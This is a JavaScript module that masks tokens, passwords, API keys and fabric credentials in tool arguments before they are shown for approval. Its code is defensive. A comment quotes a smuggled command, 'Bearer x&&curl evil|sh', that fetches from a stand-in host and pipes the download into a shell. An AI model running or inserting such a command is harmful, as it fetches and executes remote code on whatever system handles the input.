/**
 * Masks secrets in tool arguments before they are shown: a value under a secret-like key
 * (`token`, `password`, `apiKey`, `authorization`, …, the same names the sidecar's log redaction
 * uses) at any depth, replaced whole, and strings that look like one (`Bearer x`, the fabric's
 * `afk_…`, `afa_…` and `fab_admin_…` credentials). Masking is for the screen: the Operator API itself answers the
 * arguments as the approval holds them.
 */

export const MASK = '••••••';

const SECRET_NAME =
  /authorization|token|secret|passw(?:or)?d|credential|api[-_]?key|cookie|private[-_]?key|access[-_]?key/i;
/**
 * A credential after `Bearer`/`Basic` is its token characters only (RFC 6750's b64token): what
 * follows them stays on screen, so `Bearer x&&curl evil|sh` cannot hide the command as a secret.
 */
const SECRET_TEXT = [
  [/\b(Bearer|Basic)\s+[A-Za-z0-9._~+/-]+=*/gi, `$1 ${MASK}`],
  [/\b(?:af[ka]|fab_admin)_[A-Za-z0-9_-]{8,}/g, MASK],
];

/** `value` with secrets replaced by {@link MASK}. */
export function maskSecrets(value, depth = 0) {
  if (depth > 64) return MASK;
  if (typeof value === 'string') {
    let s = value;
    for (const [re, to] of SECRET_TEXT) s = s.replace(re, to);
    return s;
  }
  if (Array.isArray(value)) return value.map((v) => maskSecrets(v, depth + 1));
  if (value !== null && typeof value === 'object') {
    // Without a prototype: an own `__proto__` key (JSON.parse makes one) is copied as a key like
    // any other instead of setting the copy's prototype, which JSON.stringify does not show.
    const out = Object.create(null);
    for (const [k, v] of Object.entries(value)) {
      out[k] = SECRET_NAME.test(k) ? MASK : maskSecrets(v, depth + 1);
    }
    return out;
  }
  return value;
}
